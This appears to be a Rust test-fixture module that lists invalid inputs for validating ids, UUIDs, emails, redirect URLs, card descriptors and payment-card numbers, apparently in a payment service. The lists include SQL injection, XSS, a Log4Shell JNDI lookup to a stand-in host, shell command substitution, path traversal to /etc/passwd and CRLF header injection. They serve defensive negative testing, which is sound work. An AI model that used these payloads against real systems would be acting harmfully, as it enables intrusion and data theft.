//! Wrong texts, by the kind of field.

/// Line ends and string ends, terminal control characters, and texts that would start a new
/// line in a log.
#[rustfmt::skip]
const CONTROLS: &[&str] = &[
    "a\0b", "\0", "a\0", "\u{1}a", "a\u{8}b", "a\tb", "a\nb", "a\rb", "a\r\nSet-Cookie: a=b", "a\r\n\r\n<html>",
    "\n", "a\n2026-01-01T00:00:00Z ERROR root: paid", "\u{1b}[31mred", "\u{1b}]0;title\u{7}", "a\u{7f}b",
    "a\u{85}b", "a\u{9b}31m", "a\u{1f}b",
];

/// Characters outside the letters, digits and marks of ids, and control texts of other languages.
#[rustfmt::skip]
const NOT_IDS: &[&str] = &[
    " ", "a b", " a", "a ", "a/b", "a\\b", "a,b", "a;b", "a|b", "a&b", "a=b", "a+b", "a@b", "a#b", "a?b", "a*b",
    "a\"b", "a'b", "a<b", "a%b", "%00", "a%00", "%0d%0a", "..%2f", "../../etc/passwd",
    "'; DROP TABLE payment; --", "1' OR '1'='1", "\" OR \"\"=\"", "1) UNION SELECT 1--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=1>",
    "${jndi:ldap://a.example/a}", "{{7*7}}", "#{7*7}", "$(id)", "`id`", "\u{202e}abc", "a\u{202e}b",
    "\u{2066}a\u{2069}", "\u{feff}a", "a\u{200b}b", "a\u{301}", "\u{e4}", "\u{430}", "\u{661}", "\u{ff41}",
    "\u{1f600}", "\u{fffd}", "\u{10ffff}",
];

/// Other forms of UUIDs, and other texts of the same length.
#[rustfmt::skip]
const NOT_UUIDS: &[&str] = &[
    "", "1", "0198c3d752a67b818e0493f6a1d7c2b5", "0198c3d7-52a6-7b81-8e04-93f6a1d7c2b",
    "0198c3d7-52a6-7b81-8e04-93f6a1d7c2b5d", "0198c3d7-52a6-7b81-8e04-93f6a1d7c2bg",
    "{0198c3d7-52a6-7b81-8e04-93f6a1d7c2b5}", "0x98c3d7-52a6-7b81-8e04-93f6a1d7c2b5",
    "urn:uuid:0198c3d7-52a6-7b81-8e04-93f6a1d7c2b5", "0198c3d7_52a6_7b81_8e04_93f6a1d7c2b5",
    "0198c3d7-52a6-7b81-8e0493f6a1d7c2b5-", " 198c3d7-52a6-7b81-8e04-93f6a1d7c2bd",
    "0198c3d7-52a6-7b81-8e04-93f6a1d7c2b ", "0198c3d7-52a6-7b81-8e04-93f6a1d7c2\0d",
    "\u{661}198c3d7-52a6-7b81-8e04-93f6a1d7c2b", "pi_3PAbCdEfGhIjKlMnOpQrStUv",
    "' OR '1'='1' OR '1'='1' OR '1'='1' ", "------------------------------------",
];

/// Parts missing, doubled or wrong by RFC 5321, more than an address, headers behind the address.
#[rustfmt::skip]
const NOT_EMAILS: &[&str] = &[
    "nobody", "@", "a@", "@b.de", "a@b", "a b@c.de", "a@b@c.de", "<a@b.de>", "Ann <a@b.de>", "a@b..de",
    "a@.b.de", "a@b.de.", "a@b.de\r\nBcc: c@d.de", "a\0@b.de", "a@b.de\0", "a@b.de ", " a@b.de", "a@b.de\n",
    "a@[127.0.0.1]", "a@b.de;c@d.de", "a@b.de,c@d.de", "a@b.de%00", "a@b_c.de/x", "a@-b.de", ".a@b.de",
    "a.@b.de", "a..b@c.de", "mailto:a@b.de?cc=c@d.de", "4000056655665556@b.de", "4000-0566-5566-5556@b.de",
    "javascript:alert(1)", "<script>@b.de", "a@<script>.de", "a@b.de\u{202e}",
];

/// Other schemes, no host, white space, characters that need an escape, card numbers.
#[rustfmt::skip]
const NOT_URLS: &[&str] = &[
    "/x", "//a.de/x", "a.de", "ftp://a.de/", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x",
    "https://", "https:///x", "http:a", "https//a.de", "https:/a.de", "https://a b.de/", "https://a.de/ x",
    "https://a.de/\0", "https://a.de/\r\nX: y", "https://a.de/\n", "https://a.de/\t", " https://a.de/",
    "https://\u{202e}a.de/", "https://\u{430}.de/", "https://a.de/<script>",
    "https://a.de/?card=4000056655665556", "https://a.de/?card=4000%200566%205566%205556", "https://a.de/4000-0566-5566-5556", "https://4000056655665556.de/",
    "ws://a.de/", "https://a.de:99999999/", "https://[::1/", "https://a.de/\u{1b}[31m",
    "https://a.de/\"><script>",
];

/// No letter, too long, or letters and marks that Stripe names as refused.
#[rustfmt::skip]
const NOT_DESCRIPTORS: &[&str] = &[
    "1234", "   ", "...", "A*B", "it's", "A\"B", "A<B", "A>B", "A\\B", "\u{c4}RZTE", "\u{ff21}\u{ff22}",
    "A\u{202e}B", "A\u{a0}B", "A\u{2019}s", "12345678901234567890ABC", "A 4000056655665556",
    "4000 0566 5566 5556 A", "\u{1f600} A",
];

/// Card numbers, in the spellings of people and programs. Each is detected within a text.
pub(super) fn card_numbers() -> Vec<String> {
    let groups = ["4000", "0566", "5566", "5556"];
    let joined = [
        "", " ", "-", ".", "/", "_", ",", ":", "  ", " -", "\u{a0}", "\u{202f}", "\u{2013}", "\u{2011}",
        "\u{200b}", "\u{feff}", "\u{202e}", "\u{b7}", ")(",
    ];
    let among = [
        "378282246310005",
        "5555555555554444",
        "card 4000056655665556, thanks",
        "6011111111111117.",
        "#3566002020360505",
        "pan=4000056655665556&cvc=739",
        "<b>4000056655665556</b>",
        "%4000056655665556%",
        "3056930009020004 01/2030",
        "n\u{b0}6200000000000005",
        "12345 4000056655665556",
        "'4000056655665556'",
        "{\"number\":\"4000056655665556\"}",
    ];
    let scripts =
        ['\u{ff10}', '\u{660}', '\u{6f0}', '\u{966}'].map(|zero| in_script("4000056655665556", zero));
    joined.map(|between| groups.join(between)).into_iter().chain(owned(&among)).chain(scripts).collect()
}

/// A number in the digits of a script, given the script's zero.
pub(super) fn in_script(number: &str, zero: char) -> String {
    let digit = |digit: char| char::from_u32(u32::from(zero) + digit.to_digit(10).unwrap()).unwrap();
    number.chars().map(digit).collect()
}

/// Texts with control characters.
pub(super) fn controls() -> Vec<String> {
    owned(CONTROLS)
}

/// Texts that are no id of any kind.
pub(super) fn not_ids() -> Vec<String> {
    let texts = owned(NOT_IDS);
    texts.into_iter().chain(controls()).chain([long("x", 10_000), long("\u{e9}", 256)]).collect()
}

/// Texts that are no id with this prefix.
pub(super) fn not_ids_with(prefix: &str, others: &[&str]) -> Vec<String> {
    let bare = prefix.trim_end_matches('_');
    let shapes = [
        prefix.to_owned(),
        bare.to_owned(),
        format!("{bare}-1"),
        format!("{}1", prefix.to_uppercase()),
        format!(" {prefix}1"),
        format!("{prefix}1 "),
        format!("{prefix}1\0"),
        format!("{prefix}1\n"),
        format!("{prefix}1/../../customers"),
        format!("{prefix}1?expand[]=customer"),
        format!("{prefix}1#a"),
        format!("{prefix}1%2f"),
        format!("{prefix}\u{fc}"),
        format!("{prefix}' OR 1=1 --"),
        format!("{prefix}4000056655665556"),
        format!("{prefix}4000_0566_5566_5556"),
        format!("{prefix}{}", "x".repeat(256 - prefix.len())),
    ];
    shapes.into_iter().chain(owned(others)).chain(not_ids()).chain(card_numbers()).collect()
}

/// Texts that are no free text of at most `most` characters.
pub(super) fn not_texts(most: usize) -> Vec<String> {
    let long = [long("x", most + 1), long("\u{20ac}", most + 1), long("' OR 1=1 --", 5000)];
    controls().into_iter().chain(card_numbers()).chain(long).collect()
}

/// Texts that are no request id: a request id may contain a card number only in groups.
pub(super) fn not_request_ids() -> Vec<String> {
    let cards = [
        "4000056655665556",
        "card-4000056655665556-1",
        "378282246310005",
        "a:3566002020360505",
        "6200000000000005.1",
    ];
    not_ids().into_iter().chain(owned(&cards)).chain([String::new(), long("x", 256)]).collect()
}

/// Texts that are no UUID in the usual form.
pub(super) fn not_uuids() -> Vec<String> {
    let shapes = owned(NOT_UUIDS);
    shapes.into_iter().chain(controls()).chain([long("0", 36), long("0", 10_000)]).collect()
}

/// Texts that are no email address.
pub(super) fn not_emails() -> Vec<String> {
    let texts = owned(NOT_EMAILS);
    let long = [format!("a@{}.de", "b".repeat(260)), format!("{}@b.de", "a".repeat(250)), long("x", 5000)];
    texts.into_iter().chain(long).chain(card_numbers()).collect()
}

/// Texts that are no URL for a browser redirect.
pub(super) fn not_urls() -> Vec<String> {
    let texts = owned(NOT_URLS);
    texts.into_iter().chain([format!("https://a.de/{}", "x".repeat(2036))]).chain(card_numbers()).collect()
}

/// Texts that no card statement shows.
pub(super) fn not_descriptors() -> Vec<String> {
    let texts = owned(NOT_DESCRIPTORS);
    texts.into_iter().chain(controls()).chain([long("A", 5000)]).collect()
}

/// A text repeated so many times.
pub(super) fn long(text: &str, times: usize) -> String {
    text.repeat(times)
}

/// The texts as owned strings.
pub(super) fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}
